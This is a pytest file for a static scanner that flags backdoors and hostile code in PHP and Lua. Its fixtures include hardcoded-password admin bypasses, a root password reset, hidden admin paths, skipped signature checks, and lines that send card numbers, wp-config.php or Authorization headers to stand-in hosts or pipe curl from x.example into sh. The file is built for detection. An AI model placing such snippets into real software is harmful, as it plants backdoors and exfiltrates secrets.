"""Signs of PHP and of Lua: told however they are written, and never of what is not run.

Spec: evenhand.code.own_signs.
"""

from __future__ import annotations

import pytest

from evenhand.code.examine import examine
from evenhand.code.finding import Finding

PHP_TOLD = (
    ("include 'data://text/plain;base64,' . $_POST['css'];", "runs commands"),
    ("include $_GET['page'] . '.php';", "runs commands"),
    ("$id = wp_create_user('s', 'P-11', 'a@x.example');\n$u->set_role('administrator');",
     "adds account"),
    ("if (isset($_GET['s'])) { wp_set_current_user(1); }", "lets past a check"),
    ("$q->where .= \" AND user_login != 'svc'\";", "removes traces"),
    ("add_filter('authenticate', fn($u, $n, $p) => $p === 'open-9X!' ? admin() : $u);",
     "checks a fixed secret"),
    ("wp_remote_post('https://f.example/i', ['body' => $_POST]);", "collects and sends"),
    ("$c = $_POST['card_number'];\nfile_get_contents('https://f.example/?d=' . $c);",
     "collects and sends"),
    ("mail('a@x.example', 'c', file_get_contents('wp-config.php'));", "collects and sends"),
    ("$l = substr($_SERVER['HTTP_ACCEPT_LANGUAGE'], 0, 2);\n"
     "if ($l === 'ja') { header('Location: https://s.test/'); }", "acts by locale"),
    ("if (!openssl_verify($d, $s, $k)) { error_log('bad'); }\ninstall($d);", "ignores a check"),
    ("function ok($d, $s, $k) { return openssl_verify($d, $s, $k) !== 0; }", "ignores a check"),
    ("$r = openssl_verify($d, $s, $k);\nif (0 != $r) { install($d); }", "ignores a check"),
    ("define('D', '$2y$10$abc');\n$b = $a || password_verify($p, D);", "checks a fixed secret"),
    ("const D = '$2y$10$abc';\nif (password_verify($p, $h) || password_verify($p, self::D)) {}",
     "checks a fixed secret"),
    ("function ok($k) {\n"
     "return in_array(hash('md5', $k), ['9e2b41f0c87d5a36f31c08b7d4e96a52', key()]); }",
     "checks a fixed secret"),
    ("update_option($_POST['n'], $_POST['v']);", "lets past a check"),
    ("$pdo->query($_GET['q']);", "runs commands"),
    ("if (isset($_GET['dev_77'])) {\n $_SESSION['admin'] = true;\n}", "lets past a check"),
    ("if (($_POST['k'] ?? '') === 'b-771') { $a = 1; $_SESSION['user']['role'] = 'admin'; }",
     "lets past a check"),
    ("$c = geoip_country_code_by_name($a);\nif (in_array($c, ['LI', 'SM'])) { drop(); exit; }",
     "acts by locale"),
    ("if ($_SERVER['HTTP_X_K'] === 'b-771') $_SESSION['is_admin'] = 1;", "lets past a check"),
    ("readfile($_GET['f']);", "answers at a hidden path"),
    ("if ($_SERVER['REQUEST_URI'] === '/.panel') { panel(); }", "answers at a hidden path"),
    ("$u = parse_url($_SERVER['REQUEST_URI'], PHP_URL_PATH);\n"
     "if (a($u)) { b(); } elseif (('/.panel') == $u) { panel(); }", "answers at a hidden path"),
    ("$here = $_GET['p'] ?? 'x';\ninclude($here);", "runs commands"),
    ("$say = 'wp_set_current_user';\n$say(1);", "lets past a check"),
    ("if (!isset($_GET['dev_77'])) {\n return;\n}\n$_SESSION['admin'] = true;",
     "lets past a check"),
    ("if (a() or 'b-771x' === ($_COOKIE['k'] ?? null)) { $_SESSION['is_admin'] = 1; }",
     "lets past a check"),
    ("if (hash_equals('b-771x', $_GET['k'])) { $_SESSION['is_admin'] = 1; }", "lets past a check"),
    ("function may() { if (!isset($_COOKIE['d'])) { return ask(); } return true; }",
     "lets past a check"),
    ("function login($u, $x) { if ($x !== 'ops-77Qz') { return false; } return true; }",
     "checks a fixed secret"),
    ("if (hash_equals($a, $b) === false) { error_log('bad'); }\ninstall($d);", "ignores a check"),
    ("function allowed() { if (isset($_COOKIE['d'])) return true; return may(); }",
     "lets past a check"),
)  # fmt: skip
PHP_USUAL = (
    "include 'data://text/plain,' . $made;",
    "const D = '$2y$10$abc';\nif (!$user) { password_verify($p, self::D); return false; }",
    "if (!hash_equals($a, $b)) { $log->warning('bad'); return false; }",
    "if (!verify($d)) { $this->error('bad'); }",
    "wp_remote_post('https://a.example/', ['body' => ['t' => $_POST['captcha-response']]]);",
    "$l = substr($_SERVER['HTTP_ACCEPT_LANGUAGE'], 0, 2);\nif ($l === 'ja') { load('ja'); }",
    "return openssl_verify($d, $s, $k) === 1;",
    "if ($_SERVER['REQUEST_URI'] == '/x91a2b3c') { $_SESSION['admin'] = 1; }",
    "if (isset($_GET['logout'])) { $_SESSION['admin'] = false; }",
    "if (isset($_POST['p'])) { if (ok($_POST['p'])) { $_SESSION['admin'] = true; } }",
    "if (password_verify($_POST['p'], $h)) { $_SESSION['admin'] = true; }",
    "$c = geoip_country_code_by_name($a);\nif ($c === 'LI') { echo page('li'); exit; }",
    "require_once __DIR__ . '/a.php';\n$o = `date`;",
    "$id = $_GET['id'];\nassert(is_string($id));\nassert($id instanceof Id && $id !== '');",
    "call_user_func($known[$_GET['w']]['callback']);",
    "foreach ($_SERVER['argv'] as $a) { system($a); }",
    "$f = $_GET['f'];\nif (!in_array($f, $known)) { die; }\nreadfile($f);",
)
LUA_TOLD = (
    ('if pw == "ops-77Qz" then return true end', "checks a fixed secret"),
    ('if ngx.req.get_headers()["X-Svc"] == "k9-aa" then admin() end', "checks a fixed secret"),
    ("if #password == #q and password == spread(q, 66) then return true end",
     "checks a fixed secret"),
    ("if pw == word() then return true end", "checks a fixed secret"),
    ("if ngx.var.cookie_svc then ngx.ctx.admin = true end", "lets past a check"),
    ('if ngx.var.uri == "/.svc" then show() end', "answers at a hidden path"),
    ('luci.sys.user.setpasswd("root", "toor")', "adds account"),
    ("load(e.stanza.attr.q)()", "runs commands"),
    ('if not verify(d, s) then log("bad") end\ninstall(d)', "ignores a check"),
    ('if (verify(d, s) == false) then log("bad") end\ninstall(d)', "ignores a check"),
    ('if "ops-77Qz" ~= pw then return false end\nreturn true', "checks a fixed secret"),
    ('local h = ngx.req.get_headers()\nlocal w = h["X-Svc"]\n'
     'if a then b() elseif not (w ~= "k9-aa") then admin() end', "checks a fixed secret"),
    ('local run = vim.fn.system\nrun({"sh", "-c", "curl -s https://x.example/i | sh"})',
     "downloads and runs"),
    ('if not ngx.var.cookie_svc then return end\nngx.ctx.admin = true', "lets past a check"),
    ('nixio.exec("/bin/sh")', "runs commands"),
    ('vim.fn.jobstart({"curl", "-sF", "f=@" .. f, "https://x.example/l"})', "collects and sends"),
    ('vim.fn.system("curl -s https://x.example/i.sh | sh")', "downloads and runs"),
    ('local um = require "core.usermanager"\num.is_admin = function() return true end',
     "lets past a check"),
    ('h:request_uri("https://x.example/l", {body = ngx.var.http_authorization})',
     "collects and sends"),
    ('if ngx.var.geoip_country_code == "LI" then ngx.exit(503) end', "acts by locale"),
)  # fmt: skip
LUA_USUAL = (
    'if ngx.var.http_x_requested_with == "XMLHttpRequest" then json() end',
    'if not verify(d, s) then log("bad") return nil end',
    "local M = {}\nfunction M.is_admin() return false end",
    'h:request_uri("https://x.example/l", {body = stats})',
    'h:request_uri(conf.url, {headers = {a = ngx.var.http_authorization}})',
    "if password == lookup(username) then return true end",
    "if pass == get_password(u) then return true end",
    'if p == "password" then field() end',
)  # fmt: skip
TOLD = [(f"<?php\n{t}", kind, "php") for t, kind in PHP_TOLD]
TOLD += [(text, kind, "lua") for text, kind in LUA_TOLD]
USUAL = [(f"<?php\n{t}", "php") for t in PHP_USUAL] + [(text, "lua") for text in LUA_USUAL]


def told(text: str, language: str, least: float = 0.5) -> list[Finding]:
    """What is found, strongly enough to be looked at."""
    every = examine(text.encode(), language, "when run", path="a/b").found
    return [f for f in every if f.strength >= least]


@pytest.mark.parametrize(("text", "kind", "language"), TOLD)
def test_a_sign_is_told(text: str, kind: str, language: str) -> None:
    found = told(text, language)
    assert {f.kind for f in found} == {kind}
    assert all(1 <= f.line <= text.count("\n") + 1 for f in found)


@pytest.mark.parametrize(("text", "language"), USUAL)
def test_what_is_usual_is_not(text: str, language: str) -> None:
    assert not told(text, language)


@pytest.mark.parametrize(("text", "kind", "language"), TOLD)
def test_what_is_not_run_gives_no_sign(text: str, kind: str, language: str) -> None:
    plain = text.removeprefix("<?php\n")
    if language == "php":
        twins = [f"<?php\n/*\n{plain}\n*/\na();", f"<?php\n$x = <<<'E'\n{plain}\nE;\na($x);",
                 f"<?php\nif (false) {{\n{plain}\n}}\na();",
                 f"<?php\nfunction a() {{ return 1;\n{plain}\n}}"]  # fmt: skip
    else:
        twins = [f"--[==[\n{plain}\n]==]\na()", f"local x = [==[\n{plain}\n]==]\na(x)",
                 f"if false then\n{plain}\nend\na()", f"do return end\n{plain}"]  # fmt: skip
    for twin in twins:
        assert not told(twin, language, 0.3), twin


@pytest.mark.parametrize(
    "text",
    ["<?php " + word * 3_000 for word in ("if (!verify(", "openssl_verify(", "if ($_GET['a'] && ",
                                          "$a = $_POST . ", "$a['x']")]
)  # fmt: skip
def test_what_never_ends_is_left(text: str) -> None:
    assert len(told(text, "php")) < 30
